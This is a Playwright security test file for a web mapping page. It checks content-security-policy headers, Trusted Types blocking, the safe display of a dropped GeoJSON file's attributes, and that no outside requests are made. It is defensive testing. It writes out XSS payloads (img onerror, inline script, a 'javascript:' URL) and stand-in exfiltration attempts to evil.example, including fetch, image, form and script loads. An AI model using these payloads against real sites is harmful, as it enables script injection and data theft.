/** The doors are locked: what is dropped stays words, what is injected does not run, nothing goes to anybody else. */
import { readFileSync, readdirSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { card, openPage, searchBox } from './open-page.js';

/** What the page's policy refused, as the browser tells it. */
async function watchRefusals(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const refused: string[] = [];
    Object.assign(window, { refused });
    document.addEventListener('securitypolicyviolation', (event) =>
      refused.push(`${event.effectiveDirective} ${event.blockedURI}`),
    );
  });
  return () => page.evaluate(() => (window as unknown as { refused: string[] }).refused);
}

/** Packages that code of the page names; what those need in turn is noted by the build. */
function packagesNamed(): Set<string> {
  const root = resolve(import.meta.dirname, '../../src');
  const files = readdirSync(root, { recursive: true, encoding: 'utf8' }).filter(
    (name) => /\.(ts|svelte)$/.test(name) && !/^(cli|app.static)/.test(name),
  );
  const named = files.flatMap((name) =>
    [
      ...readFileSync(join(root, name), 'utf8').matchAll(
        /^\s*import (?!type\b)(?:[^'";]* from )?'([^.'][^']*)'/gm,
      ),
    ].map(([, from = '']) =>
      from
        .split('/')
        .slice(0, from.startsWith('@') ? 2 : 1)
        .join('/'),
    ),
  );
  return new Set(named.filter((name) => name !== 'node:fs' && !name.startsWith('node:')));
}

test('the licence of every package in the page is listed', async ({ request }) => {
  const list = await (await request.get('/licences.txt')).text();
  const named = packagesNamed();
  expect(named.size).toBeGreaterThan(8);
  for (const name of [...named, 'gdal3.js', 'maplibre-gl', 'workbox-precaching'])
    expect(list, name).toMatch(new RegExp(`^${name} \\d+\\.\\d+[^:]*: \\S`, 'm'));
});

test('headers and policy are served with the page, the embed and the workers', async ({ request }) => {
  const page = await request.get('/');
  const headers = page.headers();
  expect(headers['content-security-policy']).toContain("script-src 'self';");
  expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
  expect(headers['referrer-policy']).toBe('no-referrer');
  expect(headers['permissions-policy']).toContain('camera=()');
  expect(headers['set-cookie']).toBeUndefined();
  // Without a server that sends headers the page still carries its policy itself, before anything else.
  const html = await page.text();
  expect(html.indexOf('http-equiv="Content-Security-Policy"')).toBeGreaterThan(0);
  expect(html.indexOf('http-equiv="Content-Security-Policy"')).toBeLessThan(html.search(/<(script|link)/));
  expect(html).not.toMatch(/<script(?![^>]*\bsrc=)|<style|\sstyle=|\son[a-z]+=/);
  const embed = await request.get('/embed.html');
  expect(embed.headers()['content-security-policy']).toContain('frame-ancestors *');
});

test('an injection is stopped, whichever way it comes', async ({ page }) => {
  const refusals = await watchRefusals(page);
  const asked: string[] = [];
  await page.route(/evil\.example/, (route) => {
    asked.push(route.request().url());
    return route.fulfill({ body: 'ran = 1', contentType: 'text/javascript' });
  });
  await openPage(page, '#/about');
  const errors = await page.evaluate(() => {
    const tried: string[] = [];
    const attempt = (name: string, action: () => unknown) => {
      try {
        action();
      } catch (error) {
        tried.push(`${name}: ${(error as Error).name}`);
      }
    };
    const add = (tag: string, set: (element: HTMLElement) => void) => {
      const element = document.createElement(tag);
      set(element);
      document.body.append(element);
    };
    // Text that would become markup or script: Trusted Types.
    attempt('innerHTML', () => (document.body.innerHTML += '<img src=x onerror="window.ran=1">'));
    attempt('insertAdjacentHTML', () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'));
    attempt('script text', () => add('script', (script) => (script.textContent = 'window.ran=1')));
    attempt('script address', () =>
      add('script', (script) => ((script as HTMLScriptElement).src = 'https://evil.example/a.js')),
    );
    attempt('worker address', () => new Worker('https://evil.example/a.js'));
    attempt('parser', () => new DOMParser().parseFromString('<b>x</b>', 'text/html'));
    attempt('handler', () => document.body.setAttribute('onclick', 'window.ran=1'));
    // What needs no text: the policy itself.
    attempt('style', () => add('style', (style) => (style.textContent = 'body{display:none}')));
    attempt('frame', () =>
      add('iframe', (frame) => ((frame as HTMLIFrameElement).src = 'https://evil.example/')),
    );
    attempt('picture', () =>
      add('img', (image) => ((image as HTMLImageElement).src = 'https://evil.example/?leak')),
    );
    attempt('base', () =>
      document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' })),
    );
    const form = Object.assign(document.createElement('form'), {
      action: 'https://evil.example/',
      method: 'post',
    });
    document.body.append(form);
    attempt('form', () => form.submit());
    void fetch('https://evil.example/?leak').catch(() => undefined);
    return tried;
  });
  for (const name of [
    'innerHTML',
    'insertAdjacentHTML',
    'script text',
    'script address',
    'worker address',
    'parser',
    'handler',
  ])
    expect(errors).toContain(`${name}: TypeError`);
  await expect(async () => {
    const refused = (await refusals()).map((line) => line.split(' ')[0]);
    for (const rule of ['style-src-elem', 'frame-src', 'img-src', 'base-uri', 'form-action', 'connect-src'])
      expect(refused).toContain(rule);
  }).toPass();
  expect(await page.evaluate(() => 'ran' in window)).toBe(false);
  expect(asked).toEqual([]);
});

test('attributes of a dropped file are words, never markup', async ({ page }) => {
  const refusals = await watchRefusals(page);
  await page.addInitScript(() => {
    HTMLCanvasElement.prototype.getContext = () => null;
  });
  await openPage(page, '#/tools');
  const hostile = '<img src=x onerror="window.ran=1"><script>window.ran=1</script>';
  const feature = {
    type: 'Feature',
    geometry: { type: 'Point', coordinates: [130.4, 33.59] },
    properties: { 名称: hostile, [hostile]: 'javascript:alert(1)', __proto__: 'x' },
  };
  await page.getByLabel('ファイルを選ぶ').setInputFiles({
    name: `${hostile.replaceAll('/', '')}.geojson`,
    mimeType: 'application/octet-stream',
    buffer: Buffer.from(JSON.stringify({ type: 'FeatureCollection', features: [feature] })),
  });
  const row = page.getByRole('article').filter({ hasText: 'onerror' });
  await expect(row).toBeVisible();
  await row.getByText('属性表', { exact: true }).click();
  await expect(page.getByRole('cell', { name: hostile, exact: true })).toBeVisible();
  await expect(page.getByRole('columnheader', { name: hostile })).toBeVisible();
  expect(await page.locator('img[src="x"], script:not([src])').count()).toBe(0);
  expect(await page.evaluate(() => 'ran' in window)).toBe(false);
  expect(await refusals()).toEqual([]);
});

test('a whole journey sends nothing to anybody, leaves no cookie and breaks no rule', async ({
  page,
  context,
}) => {
  test.slow();
  const refusals = await watchRefusals(page);
  const strangers: string[] = [];
  const leaks: string[] = [];
  const secret = /天神|%E5%A4%A9|130\.4/;
  context.on('request', (request) => {
    const url = request.url();
    if (!/^(?:http:\/\/127\.0\.0\.1[:/]|blob:|data:)/.test(url)) strangers.push(url);
    const told = `${url.split('#')[0]} ${request.postData() ?? ''} ${request.headers()['referer'] ?? ''}`;
    if (!url.startsWith('data:') && secret.test(told)) leaks.push(told);
  });
  await openPage(page);
  const { input, lines } = searchBox(page);
  await input.fill('天神二丁目');
  await expect(lines.first()).toBeVisible();
  await input.press('ArrowDown');
  await input.press('Enter');
  await card(page);
  for (const hash of ['#/report?p=130.4017,33.5902', '#/tables', '#/about', '#/tools', '#/import'])
    await openPage(page, hash);
  expect(await refusals()).toEqual([]);
  expect(strangers).toEqual([]);
  expect(leaks).toEqual([]);
  expect(await context.cookies()).toEqual([]);
});
